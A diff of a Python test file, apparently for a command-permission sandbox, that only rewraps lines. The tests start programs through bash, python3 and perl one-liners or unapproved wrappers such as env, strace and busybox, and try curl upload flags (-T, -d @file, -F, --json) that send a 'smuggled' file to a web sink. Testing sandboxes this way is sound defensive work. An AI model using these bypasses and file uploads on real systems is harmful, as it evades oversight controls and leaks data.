@@ -131,7 +131,8 @@ def awk_starts_a_program(stage):
 
 def granted_interpreter_starts_a_program(stage):
     _starts(stage, "run report.sh with bash", ["bash", "-c", "MARK"])
-    _starts(stage, "run report.py with python3", ["python3", "-S", "-c", "import os; os.execvp('/usr/bin/touch', 'MARK'.split())"])
+    _starts(stage, "run report.py with python3",
+            ["python3", "-S", "-c", "import os; os.execvp('/usr/bin/touch', 'MARK'.split())"])
     _starts(stage, "run `perl` report.pl", ["perl", "-e", "exec 'MARK' or exit $!"])
 
 
@@ -168,8 +169,9 @@ def xargs_starts_a_program(stage):
 
 
 def wrappers_that_were_not_granted(stage):
-    for words in (["env"], ["nice"], ["timeout", "5"], ["setsid", "-w"], ["stdbuf", "-o0"], ["nohup"], ["chrt", "-o", "0"],
-                  ["taskset", "1"], ["strace", "-o", "/dev/null"], ["setpriv", "--no-new-privs"], ["busybox", "nice"]):
+    for words in (["env"], ["nice"], ["timeout", "5"], ["setsid", "-w"], ["stdbuf", "-o0"], ["nohup"],
+                  ["chrt", "-o", "0"], ["taskset", "1"], ["strace", "-o", "/dev/null"], ["setpriv", "--no-new-privs"],
+                  ["busybox", "nice"]):
         stage.attempt(stage.actor(), "processes.spawn", f"/usr/bin/{words[0]}", *words[1:], TRUE)
 
 
@@ -181,14 +183,15 @@ def applet_by_another_name(stage):
 
 def _uploads(stage, *words, environment=None):
     sinks[WEB].bodies.clear()
-    stage.attempt(stage.actor(DOWNLOADING), "programs.command_whatever", environment or {}, "/usr/bin/curl", "-s", "-m", "5",
-                  *words, "http://weather.com/", effect=lambda: any(b"smuggled" in body for body in sinks[WEB].bodies))
+    stage.attempt(stage.actor(DOWNLOADING), "programs.command_whatever", environment or {},
+                  "/usr/bin/curl", "-s", "-m", "5", *words, "http://weather.com/",
+                  effect=lambda: any(b"smuggled" in body for body in sinks[WEB].bodies))
 
 
 def curl_uploads(stage):
     text = stage.write(stage.path("text"), "smuggled\n")
-    for words in (["-T", text], [f"-T{text}"], ["--upload-file", text], ["-d", f"@{text}"], ["--data-binary", f"@{text}"],
-                  ["-F", f"a=@{text}"], ["--json", f"@{text}"], ["-sT", text]):
+    for words in (["-T", text], [f"-T{text}"], ["--upload-file", text], ["-d", f"@{text}"],
+                  ["--data-binary", f"@{text}"], ["-F", f"a=@{text}"], ["--json", f"@{text}"], ["-sT", text]):
         _uploads(stage, *words)
 
 
